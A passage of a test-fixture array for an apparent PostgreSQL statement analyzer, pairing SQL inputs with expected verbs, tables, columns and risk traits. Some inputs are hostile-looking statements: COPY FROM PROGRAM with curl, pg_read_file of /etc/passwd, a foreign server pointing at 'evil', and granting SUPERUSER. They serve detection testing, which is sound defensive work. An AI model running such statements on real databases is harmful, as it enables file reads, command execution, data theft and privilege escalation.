    sql: 'INSERT INTO orders (id) VALUES ((SELECT id FROM secrets)), (DEFAULT)',
    expect: [
      {
        verbs: ['INSERT'],
        reads: ['public.secrets'],
        writesTo: ['public.orders'],
        columns: ['public.orders.id write', 'public.secrets.id target'],
        traits: ['has_triggers'],
        writes: true,
      },
    ],
  },
  {
    sql: 'UPDATE orders SET note = (SELECT card FROM people WHERE id = person_id), total = DEFAULT WHERE id = 1',
    expect: [
      {
        verbs: ['UPDATE'],
        reads: ['public.people'],
        writesTo: ['public.orders'],
        through: ['public.people_archive'],
        columns: [
          'public.orders.id filter',
          'public.orders.note write',
          'public.orders.person_id filter',
          'public.orders.total write',
          'public.people.card target',
          'public.people.id filter',
        ],
        traits: ['has_triggers'],
        writes: true,
      },
    ],
  },
  {
    sql: 'UPDATE ONLY people SET card = ssn WHERE id = 1',
    expect: [
      {
        verbs: ['UPDATE'],
        writesTo: ['public.people'],
        columns: ['public.people.card write', 'public.people.id filter', 'public.people.ssn other'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM orders o USING people p WHERE o.person_id = p.id RETURNING p.card, o.*',
    expect: [
      {
        verbs: ['DELETE'],
        reads: ['public.people'],
        writesTo: ['public.orders'],
        through: ['public.people_archive'],
        columns: [
          'public.orders.* target',
          'public.orders.person_id filter',
          'public.people.card target',
          'public.people.id filter',
        ],
        traits: ['has_triggers', 'returning'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM orders WHERE id = 1 RETURNING old.note, new.note',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.orders'],
        columns: ['public.orders.id filter', 'public.orders.note target'],
        traits: ['has_triggers', 'returning'],
        writes: true,
      },
    ],
  },
  {
    sql: 'MERGE INTO people p USING orders o ON p.id = o.person_id WHEN NOT MATCHED BY SOURCE THEN DELETE',
    expect: [
      {
        verbs: ['MERGE', 'DELETE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.person_id filter', 'public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'MERGE INTO people p USING orders o ON p.id = o.person_id WHEN MATCHED THEN DO NOTHING',
    expect: [
      {
        verbs: ['MERGE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.person_id filter', 'public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "COPY people (card) TO '/tmp/x' WITH (FORMAT csv)",
    expect: [
      {
        verbs: ['COPY'],
        reads: ['public.people'],
        columns: ['public.people.card target'],
        traits: ['copy_file'],
        writes: true,
      },
    ],
  },
  {
    sql: "COPY orders FROM PROGRAM 'curl http://x'",
    expect: [
      {
        verbs: ['COPY'],
        writesTo: ['public.orders'],
        columns: ['public.orders.* write'],
        traits: ['copy_program', 'has_triggers'],
        writes: true,
      },
    ],
  },
  {
    sql: "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
    expect: [
      {
        verbs: ['COPY', 'SELECT'],
        functions: ['pg_catalog.pg_read_file'],
        traits: ['copy_out', 'file_access'],
        writes: true,
      },
    ],
  },
  {
    sql: 'COPY people FROM STDIN WHERE id > (SELECT 1)',
    expect: [
      {
        verbs: ['COPY'],
        writesTo: ['public.people'],
        columns: ['public.people.* write', 'public.people.id filter'],
        traits: ['copy_in', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'EXPLAIN (VERBOSE, ANALYZE) INSERT INTO orders SELECT * FROM orders',
    expect: [
      {
        verbs: ['EXPLAIN', 'INSERT'],
        reads: ['public.orders'],
        writesTo: ['public.orders'],
        columns: ['public.orders.* target', 'public.orders.* write'],
        traits: ['explain_analyze', 'has_triggers'],
        writes: true,
      },
    ],
  },
  {
    sql: 'EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM people WHERE id = 1',
    expect: [
      {
        verbs: ['EXPLAIN', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        traits: ['explain_analyze', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'EXPLAIN CREATE TABLE x AS SELECT * FROM people',
    expect: [
      {
        verbs: ['EXPLAIN'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  { sql: 'EXPLAIN SELECT wipe()', expect: [{ verbs: ['EXPLAIN'], functions: ['public.wipe'] }] },
  {
    sql: 'PREPARE y (int) AS SELECT card FROM people WHERE id = $1',
    expect: [
      {
        verbs: ['PREPARE', 'SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.id filter'],
        traits: ['prepared'],
      },
    ],
  },
  {
    sql: 'PREPARE z AS INSERT INTO secrets SELECT * FROM secrets',
    expect: [
      {
        verbs: ['PREPARE', 'INSERT'],
        reads: ['public.secrets'],
        writesTo: ['public.secrets'],
        columns: ['public.secrets.* target', 'public.secrets.* write'],
        traits: ['prepared'],
        writes: true,
      },
    ],
  },
  { sql: 'EXECUTE y((1))', expect: [{ verbs: ['EXECUTE'], traits: ['prepared'], writes: true }] },
  { sql: 'DEALLOCATE ALL', expect: [{ verbs: ['DEALLOCATE'], traits: ['prepared'] }] },
  {
    sql: 'DECLARE c CURSOR WITH HOLD FOR SELECT wipe()',
    expect: [{ verbs: ['DECLARE', 'SELECT'], functions: ['public.wipe'], traits: ['cursor'], writes: true }],
  },
  { sql: 'MOVE FORWARD 5 FROM c', expect: [{ verbs: ['MOVE'], traits: ['cursor'] }] },
  { sql: 'CLOSE ALL', expect: [{ verbs: ['CLOSE'], traits: ['cursor'] }] },
  {
    sql: 'CREATE TABLE t (LIKE people INCLUDING ALL)',
    expect: [
      {
        verbs: ['CREATE TABLE'],
        reads: ['public.people'],
        defines: ['public.t'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: "CREATE TABLE t PARTITION OF parts FOR VALUES FROM ('2027-01-01') TO ('2028-01-01')",
    expect: [
      {
        verbs: ['CREATE TABLE'],
        reads: ['public.parts'],
        defines: ['public.t'],
        writes: true,
        traits: ['inherits'],
      },
    ],
  },
  {
    sql: 'CREATE TABLE t () INHERITS (people)',
    expect: [
      {
        verbs: ['CREATE TABLE'],
        reads: ['public.people'],
        defines: ['public.t'],
        through: ['public.people_archive'],
        writes: true,
        traits: ['inherits'],
      },
    ],
  },
  {
    sql: 'CREATE TEMP VIEW orders AS SELECT * FROM people',
    expect: [
      {
        verbs: ['CREATE VIEW'],
        reads: ['public.people'],
        defines: ['pg_temp.orders'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        traits: ['temporary'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE MATERIALIZED VIEW m AS SELECT wipe()',
    expect: [
      {
        verbs: ['CREATE MATERIALIZED VIEW', 'SELECT'],
        defines: ['public.m'],
        functions: ['public.wipe'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE INDEX ON people (lower(card)) WHERE ssn IS NOT NULL',
    expect: [
      {
        verbs: ['CREATE INDEX'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        columns: ['.card other', '.ssn other'],
        functions: ['pg_catalog.lower', 'public.lower'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE UNIQUE INDEX i ON shadow.people (id)',
    expect: [{ verbs: ['CREATE INDEX'], defines: ['shadow.people'], writes: true }],
  },
  {
    sql: 'CREATE POLICY p ON people USING (card = current_user)',
    expect: [
      {
        verbs: ['CREATE POLICY'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        columns: ['.card other'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE AGGREGATE a (int) (SFUNC = int4pl, STYPE = int)',
    expect: [{ verbs: ['CREATE AGGREGATE'], writes: true }],
  },
  {
    sql: 'CREATE OPERATOR = (LEFTARG = text, RIGHTARG = int, FUNCTION = f)',
    expect: [{ verbs: ['CREATE OPERATOR'], writes: true }],
  },
  {
    sql: 'CREATE CAST (text AS int) WITH FUNCTION f(text)',
    expect: [{ verbs: ['CREATE CAST'], writes: true }],
  },
  { sql: 'CREATE EXTENSION dblink', expect: [{ verbs: ['CREATE EXTENSION'], writes: true }] },
  {
    sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')",
    expect: [
      {
        verbs: ['CREATE SERVER'],
        traits: ['network_access'],
        writes: true,
        record: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '[redacted]')",
      },
    ],
  },
  {
    sql: "CREATE FOREIGN TABLE ft (a int) SERVER s OPTIONS (table_name 'x')",
    expect: [
      {
        verbs: ['CREATE FOREIGN TABLE'],
        defines: ['public.ft'],
        writes: true,
        record: "CREATE FOREIGN TABLE ft (a int) SERVER s OPTIONS (table_name '[redacted]')",
      },
    ],
  },
  {
    sql: 'IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public',
    expect: [{ verbs: ['IMPORT FOREIGN SCHEMA'], traits: ['network_access'], writes: true }],
  },
  {
    sql: 'CREATE PUBLICATION p FOR TABLE people WHERE (id > 1)',
    expect: [
      {
        verbs: ['CREATE PUBLICATION'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        columns: ['.id other'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION trigger_it()',
    expect: [{ verbs: ['CREATE EVENT TRIGGER'], functions: ['public.trigger_it'], writes: true }],
  },
  {
    sql: 'CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT card FROM public.people',
    expect: [
      {
        verbs: ['CREATE SCHEMA', 'CREATE TABLE', 'CREATE VIEW'],
        reads: ['public.people'],
        defines: ['public.t', 'public.v'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
        unknown: ['schema_elements'],
        writes: true,
      },
    ],
  },
  { sql: "CREATE TYPE t AS ENUM ('a')", expect: [{ verbs: ['CREATE TYPE'], writes: true }] },
  {
    sql: 'CREATE DOMAIN d AS text CHECK (check_it(VALUE))',
    expect: [
      { verbs: ['CREATE DOMAIN'], columns: ['.value other'], functions: ['public.check_it'], writes: true },
    ],
  },
  {
    sql: 'CREATE STATISTICS st ON card, ssn FROM people',
    expect: [
      {
        verbs: ['CREATE STATISTICS'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  { sql: 'CREATE LANGUAGE plperlu', expect: [{ verbs: ['CREATE EXTENSION'], writes: true }] },
  { sql: 'CREATE DATABASE d TEMPLATE postgres', expect: [{ verbs: ['CREATE DATABASE'], writes: true }] },
  {
    sql: "CREATE TABLESPACE t LOCATION '/x'",
    expect: [{ verbs: ['CREATE TABLESPACE'], traits: ['file_access'], writes: true }],
  },
  {
    sql: 'ALTER TABLE people ADD COLUMN x int DEFAULT wipe(), ALTER COLUMN card TYPE text USING upper(ssn)',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        columns: ['.ssn other'],
        functions: ['pg_catalog.upper', 'public.wipe'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER TABLE people DISABLE ROW LEVEL SECURITY',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER TABLE people OWNER TO x',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER TABLE people SET SCHEMA shadow',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        defines: ['public.people', 'shadow.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER VIEW cards RENAME COLUMN c TO d',
    expect: [
      {
        verbs: ['ALTER VIEW'],
        defines: ['public.cards'],
        through: ['public.people'],
        columns: ['public.cards.c filter'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER SEQUENCE tickets RESTART',
    expect: [{ verbs: ['ALTER SEQUENCE'], defines: ['public.tickets'], writes: true }],
  },
  {
    sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x',
    expect: [{ verbs: ['ALTER DEFAULT PRIVILEGES'], writes: true }],
  },
  { sql: 'ALTER FUNCTION wipe() SECURITY DEFINER', expect: [{ verbs: ['ALTER FUNCTION'], writes: true }] },
  { sql: 'ALTER ROLE x SUPERUSER', expect: [{ verbs: ['ALTER ROLE'], writes: true }] },
  {
    sql: 'ALTER ROLE x IN DATABASE d SET app.secret_key = abc',
    expect: [
      { verbs: ['ALTER ROLE'], writes: true, record: "ALTER ROLE x SET app.secret_key = '[redacted]'" },
    ],
  },
  {
    sql: 'ALTER DATABASE d SET search_path = shadow',
    expect: [{ verbs: ['ALTER DATABASE'], traits: ['search_path_change'], writes: true }],
  },
  {
    sql: "ALTER SYSTEM SET ssl_passphrase_command = 'x'",
    expect: [
      {
        verbs: ['ALTER SYSTEM'],
        writes: true,
        record: "ALTER SYSTEM SET ssl_passphrase_command = '[redacted]'",
      },
    ],
  },
  { sql: 'ALTER EXTENSION x UPDATE', expect: [{ verbs: ['ALTER EXTENSION'], writes: true }] },
  {
    sql: "ALTER SUBSCRIPTION s CONNECTION 'password=x'",
    expect: [
      {
        verbs: ['ALTER SUBSCRIPTION'],
        traits: ['network_access'],
        writes: true,
        record: "ALTER SUBSCRIPTION s CONNECTION '[redacted]'",
      },
    ],
  },
  {
    sql: 'DROP INDEX people_pkey',
    expect: [{ verbs: ['DROP INDEX'], defines: ['public.people_pkey'], writes: true }],
  },
  {
    sql: 'DROP SEQUENCE tickets',
    expect: [{ verbs: ['DROP SEQUENCE'], defines: ['public.tickets'], writes: true }],
  },
  {
    sql: 'DROP RULE mailbox_rule ON mailbox',
    expect: [
      { verbs: ['DROP RULE'], defines: ['public.mailbox'], through: ['public.secrets'], writes: true },
    ],
  },
  { sql: 'DROP OWNED BY x', expect: [{ verbs: ['DROP OWNED'], writes: true }] },
  { sql: 'REASSIGN OWNED BY x TO y', expect: [{ verbs: ['REASSIGN OWNED'], writes: true }] },
  { sql: 'DROP DATABASE x', expect: [{ verbs: ['DROP DATABASE'], writes: true }] },
  { sql: 'DROP ROLE x', expect: [{ verbs: ['DROP ROLE'], writes: true }] },
  { sql: 'DROP EXTENSION x', expect: [{ verbs: ['DROP EXTENSION'], writes: true }] },
  {
    sql: 'REVOKE ALL ON people FROM x',
    expect: [
      { verbs: ['REVOKE'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  { sql: 'GRANT EXECUTE ON FUNCTION wipe() TO x', expect: [{ verbs: ['GRANT'], writes: true }] },
  {
    sql: 'GRANT SELECT (card) ON people TO x',
    expect: [
      { verbs: ['GRANT'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  {
    sql: "COMMENT ON TABLE people IS 'x'",
    expect: [
      { verbs: ['COMMENT'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  {
    sql: "COMMENT ON COLUMN people.card IS 'x'",
    expect: [
      { verbs: ['COMMENT'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  {
    sql: "SECURITY LABEL ON TABLE people IS 'x'",
    expect: [
      {
        verbs: ['SECURITY LABEL'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  { sql: 'REVOKE x FROM y', expect: [{ verbs: ['REVOKE'], traits: ['grant_role'], writes: true }] },
  { sql: "SET TIME ZONE 'UTC'", expect: [{ verbs: ['SET'] }] },
  {
    sql: "SET NAMES 'SJIS'",
    expect: [{ verbs: ['SET'], traits: ['parsing_change'], unknown: ['parsing_change'], writes: true }],
  },
  {
    sql: "SET client_encoding = 'latin1'",
    expect: [{ verbs: ['SET'], traits: ['parsing_change'], unknown: ['parsing_change'], writes: true }],
  },
  { sql: "SET SCHEMA 'shadow'", expect: [{ verbs: ['SET'], traits: ['search_path_change'] }] },
  { sql: 'SET TRANSACTION READ WRITE', expect: [{ verbs: ['SET'] }] },
  { sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', expect: [{ verbs: ['SET'] }] },
  { sql: 'SET LOCAL ROLE NONE', expect: [{ verbs: ['SET'], traits: ['set_role'] }] },
  {
    sql: "SET gatehouse.token = 'eyJ'",
    expect: [{ verbs: ['SET'], record: "SET gatehouse.token = '[redacted]'" }],
  },
  { sql: "SET x.y TO 1, 'b', true", expect: [{ verbs: ['SET'] }] },
  { sql: 'SET CONSTRAINTS ALL DEFERRED', expect: [{ verbs: ['SET CONSTRAINTS'] }] },
  { sql: 'START TRANSACTION READ ONLY', expect: [{ verbs: ['BEGIN'], traits: ['transaction_control'] }] },
  { sql: 'SAVEPOINT a', expect: [{ verbs: ['SAVEPOINT'], traits: ['transaction_control'] }] },
  { sql: 'ROLLBACK TO a', expect: [{ verbs: ['ROLLBACK TO'], traits: ['transaction_control'] }] },
  { sql: 'RELEASE a', expect: [{ verbs: ['RELEASE'], traits: ['transaction_control'] }] },
  {
    sql: "PREPARE TRANSACTION 'x'",
    expect: [{ verbs: ['PREPARE TRANSACTION'], traits: ['transaction_control', 'two_phase'], writes: true }],
  },
  { sql: 'UNLISTEN *', expect: [{ verbs: ['UNLISTEN'], traits: ['listen_notify'] }] },
  { sql: 'SHOW ALL', expect: [{ verbs: ['SHOW'] }] },
  { sql: 'DISCARD TEMP', expect: [{ verbs: ['DISCARD'], traits: ['discard'] }] },
  {
    sql: 'CLUSTER people USING people_pkey',
    expect: [
      { verbs: ['CLUSTER'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  { sql: 'REINDEX DATABASE postgres', expect: [{ verbs: ['REINDEX'], writes: true }] },
  {
    sql: "SELECT * FROM crosstab('select 1') AS c(a int)",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['?crosstab'],
        traits: ['dynamic_sql'],
        unknown: ['dynamic_sql', 'unresolved_function'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT ts_stat('select card from people')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.ts_stat'],
        traits: ['dynamic_sql'],
        unknown: ['dynamic_sql'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT ts_rewrite('a'::tsquery, 'select t,s from x')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.ts_rewrite'],
        traits: ['dynamic_sql'],
        unknown: ['dynamic_sql'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT pg_logical_slot_get_changes('x', null, null)",
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['row_changes'],
        functions: ['pg_catalog.pg_logical_slot_get_changes'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT * FROM people WHERE card = 'x'; ; ;",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target', 'public.people.card filter'],
      },
    ],
  },
  { sql: ';;', expect: [{ verbs: ['EMPTY'] }] },
  { sql: 'SELECT', expect: [{ verbs: ['SELECT'] }] },
  {
    sql: 'BEGIN; SET LOCAL search_path = shadow; COMMIT; SELECT * FROM people',
    expect: [
      { verbs: ['BEGIN'], traits: ['transaction_control'] },
      { verbs: ['SET'], traits: ['search_path_change'] },
      { verbs: ['COMMIT'], traits: ['transaction_control'] },
      {
        verbs: ['SELECT'],
        reads: ['?people'],
        columns: ['.* target'],
        unknown: ['unresolved_search_path'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER ROLE x SET search_path = shadow; SELECT * FROM people',
    expect: [
      { verbs: ['ALTER ROLE'], traits: ['search_path_change'], writes: true },
      {
        verbs: ['SELECT'],
        reads: ['?people'],
        columns: ['.* target'],
        unknown: ['catalogue_in_flux', 'unresolved_search_path'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT wipe(); SELECT * FROM people',
    expect: [
      { verbs: ['SELECT'], functions: ['public.wipe'], writes: true },
      {
        verbs: ['SELECT'],
        reads: ['?people'],
        columns: ['.* target'],
        unknown: ['unresolved_search_path'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SET ROLE x; SELECT * FROM people',
    expect: [
      { verbs: ['SET'], traits: ['set_role'] },
      {
        verbs: ['SELECT'],
        reads: ['?people'],
        columns: ['.* target'],
        unknown: ['unresolved_search_path'],
        writes: true,
      },
    ],
  },

  // Names under another path, role or set of temporary relations.
  {
    sql: 'SELECT * FROM people',
    context: { searchPath: ['shadow', 'public'] },
    expect: [{ verbs: ['SELECT'], reads: ['shadow.people'], columns: ['shadow.people.* target'] }],
  },
  {
    sql: 'SELECT * FROM people',
    context: { searchPath: ['$user', 'public'], role: 'shadow' },
    expect: [{ verbs: ['SELECT'], reads: ['shadow.people'], columns: ['shadow.people.* target'] }],
  },
  {
    sql: 'SELECT * FROM people',
    context: { searchPath: undefined },
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['?people'],
        columns: ['.* target'],
        unknown: ['unresolved_search_path'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT * FROM public.secrets',
    context: { searchPath: undefined },
    expect: [{ verbs: ['SELECT'], reads: ['public.secrets'], columns: ['public.secrets.* target'] }],
  },
  {
    sql: 'SELECT lower($1)',
    context: { searchPath: undefined },
    expect: [{ verbs: ['SELECT'], functions: ['?lower'], unknown: ['unresolved_search_path'], writes: true }],
  },
  {
    sql: 'SELECT * FROM orders',
    context: { searchPath: ['closed', 'public'] },
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['closed.orders', 'public.orders'],
        columns: ['closed.orders.* target', 'public.orders.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM pg_class',
    context: { searchPath: ['shadow'] },
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['definition_texts'],
        reads: ['pg_catalog.pg_class'],
        columns: ['pg_catalog.pg_class.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM orders',
    context: { temporaryNames: new Set(['orders']) },
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['?orders'],
        columns: ['.* target'],
        unknown: ['temporary_relation'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT * FROM public.orders',
    context: { temporaryNames: new Set(['orders']) },
    expect: [{ verbs: ['SELECT'], reads: ['public.orders'], columns: ['public.orders.* target'] }],
  },
  {
    sql: 'SELECT * FROM pg_temp.orders',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['?pg_temp.orders'],
        columns: ['.* target'],
        unknown: ['unresolved_relation'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT people_count()',
    context: { searchPath: ['shadow', 'public'] },
    expect: [{ verbs: ['SELECT'], functions: ['public.people_count', 'shadow.people_count'], writes: true }],
  },
];
